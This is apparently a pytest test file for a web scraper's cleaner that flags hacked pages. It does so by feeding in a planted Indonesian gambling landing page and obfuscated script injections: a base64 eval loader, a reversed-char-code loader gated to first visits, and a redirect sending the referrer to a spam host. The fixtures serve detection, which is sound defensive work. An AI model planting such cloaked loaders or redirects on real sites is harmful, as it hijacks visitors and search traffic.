"""Session 9 (v7 misses, now dev): is this page the site's own at all, and scripts judged by their
act. A landing page dropped whole into a hacked site's path leaves nothing of itself in the
output; a bundle shipped as one base64 program is no loader because its config holds addresses;
a function that hands the search visitor on is judged whoever calls it; an off-site load that
only a first visit gets (what a spider always is) is an injection. Pages are written afresh in
each miss's form, not copied from the spent pages."""
from __future__ import annotations

import base64

from scraper.clean import clean_page
from tests.clean.test_gestures import ARTICLE
from tests.clean.test_structural import URL, page

SPAM_HOST = "lk8-jinbao.top"
OFFER = f"https://{SPAM_HOST}/daftar?ref=77"


def landing(links: int, extra: str = "", canonical: str = URL) -> bytes:
    buttons = "".join(f'<p><a href="{OFFER}" class="btn">DAFTAR SEKARANG {i}</a></p>' for i in range(links))
    return (f'<html amp lang="id"><head><meta charset="utf-8"><title>SLOTKU88 - Situs Terpercaya Hadiah Terbesar</title>'
            f'<meta name="author" content="Situs Terpercaya"><link rel="canonical" href="{canonical}"></head><body>'
            f'<header><a href="{canonical}"><img src="/logo.png"></a><a href="">Beranda</a></header>'
            f'<h1>SLOTKU88 Situs Terpercaya</h1><p>SLOTKU88 adalah situs terpercaya dengan hadiah terbesar bagi para '
            f'pemain, dengan layanan pelanggan 24 jam dan proses daftar yang mudah.</p>{buttons}{extra}</body></html>').encode()


def test_a_landing_page_dropped_into_the_sites_path_leaves_no_title_text_or_author():
    a = clean_page(landing(6), url=URL)
    assert a.hijacked and [f.kind for f in a.findings] == ["page_takeover"]
    assert a.title is None and not a.text and a.author is None and a.source is None
    assert SPAM_HOST in a.findings[0].evidence


def test_the_same_page_served_from_a_local_mirror_is_still_judged_by_its_canonical_link():
    assert clean_page(landing(6), url="http://127.0.0.1:8000/lib/pkp/").hijacked


def test_a_page_that_links_another_page_of_its_site_is_the_sites_own_page():
    # a site's landing or campaign page links its home page or sections, whatever else it promotes
    a = clean_page(landing(6, extra='<a href="/news/">Berita</a>'), url=URL)
    assert not any(f.kind == "page_takeover" for f in a.findings)


def test_an_article_citing_one_source_several_times_is_no_takeover():
    cites = "".join(f'<p>据<a href="https://www.news.cn/2024/0316/c{i}.htm">新华社</a>报道。</p>' for i in range(3))
    a = clean_page(page(body=ARTICLE + cites), url=URL)
    assert not a.hijacked and a.text


# A bundle shipped past ad blockers as one base64 program: its module table's config holds
# the addresses it may load as plain constants.
_BUNDLE = ('!function e(t,n,r){function o(a){if(!n[a]){var c=n[a]={exports:{}};t[a][0].call(c.exports,function(e){'
           'return o(t[a][1][e]||e)},c,c.exports,e,t,n,r)}return n[a].exports}for(var i=0;i<r.length;i++)o(r[i]);return o}'
           '({1:[function(e,t,n){var c=e("./config");var s=document.createElement("script");s.src=c.CLIENT_URL;'
           'document.head.appendChild(s)},{"./config":2}],2:[function(e,t,n){t.exports={CLIENT_URL:'
           '"https://client.adrecovery-cdn.net/client-7.js",STATS_URL:"https://lb.stats-beacon.net/stats"}},{}]},{},[1]);')


def shipped(program: str) -> str:
    return f'<script>/* loader-7 */ eval(atob("{base64.b64encode(program.encode()).decode()}"));</script>'


def test_a_bundle_shipped_as_one_base64_program_is_not_a_hidden_loader():
    a = clean_page(page(body=ARTICLE + shipped(_BUNDLE)), url=URL)
    assert not a.hijacked and not a.findings


def test_a_fake_loader_that_hides_its_address_inside_a_shipped_program_is_still_caught():
    address = base64.b64encode(f"https://{SPAM_HOST}/jquery.min.js".encode()).decode()
    loader = ("(function(u,d){u=atob(u);var s=d.createElement('scr'+'ipt');s.src=u;"
              f"d.getElementsByTagName('head')[0].appendChild(s)}})('{address}',document);")
    a = clean_page(page(body=ARTICLE + shipped(loader)), url=URL)
    assert a.hijacked and any(f.kind == "spam_script" and SPAM_HOST in f.evidence for f in a.findings)


def test_a_function_that_hands_the_search_visitor_on_is_judged_though_nothing_on_the_page_calls_it():
    code = ("<script>var jump = function () { var r = encodeURIComponent(document.referrer);"
            f" window.location = 'https://{SPAM_HOST}/in?seoref=' + r + '&u=' + encodeURIComponent(document.URL); }};</script>")
    a = clean_page(page(body=ARTICLE + code), url=URL)
    assert a.hijacked and any(f.kind == "js_redirect" and SPAM_HOST in f.evidence for f in a.findings)


def test_a_load_only_a_first_visit_gets_from_reversed_code_points_is_an_injection():
    codes = ",".join(str(ord(c)) for c in reversed(f"//{SPAM_HOST}/tj.js"))
    code = ("<script>if(document.cookie.indexOf('_v=1')<0){document.cookie='_v=1;path=/;max-age=86400';"
            f"var a=[{codes}],s='';for(var i=a.length-1;i>=0;i--)s+=String.fromCharCode(a[i]);"
            "var e=document.createElement('script');e.src=location.protocol+s;document.head.appendChild(e);}</script>")
    a = clean_page(page(body=ARTICLE + code), url=URL)
    assert a.hijacked and any(f.kind == "spam_script" and SPAM_HOST in f.evidence for f in a.findings)


def test_a_consent_script_that_loads_its_vendor_on_every_visit_is_not_a_first_visit_gate():
    code = ("<script>if(document.cookie.indexOf('seen=1')<0){document.cookie='seen=1;path=/';}"
            "var e=document.createElement('script');e.src='https://cdn.consent-vendor.net/'+'banner.js';"
            "document.head.appendChild(e);</script>")
    a = clean_page(page(body=ARTICLE + code), url=URL)
    assert not a.hijacked


def test_a_brand_glued_into_a_line_goes_on_a_page_a_first_visit_load_caught_first():
    codes = ",".join(str(ord(c)) for c in reversed(f"//{SPAM_HOST}/tj.js"))
    code = ("<script>if(!localStorage.getItem('v')){localStorage.setItem('v','1');"
            f"var a=[{codes}],s='';for(var i=a.length-1;i>=0;i--)s+=String.fromCharCode(a[i]);"
            "var e=document.createElement('script');e.src='https:'+s;document.body.appendChild(e);}</script>")
    a = clean_page(page(body=ARTICLE + "<p>附件：金鲤娱乐jl.vip整治任务清单.xlsx</p>" + code), url=URL)
    assert a.hijacked and "金鲤娱乐" not in a.text and "整治任务清单" in a.text
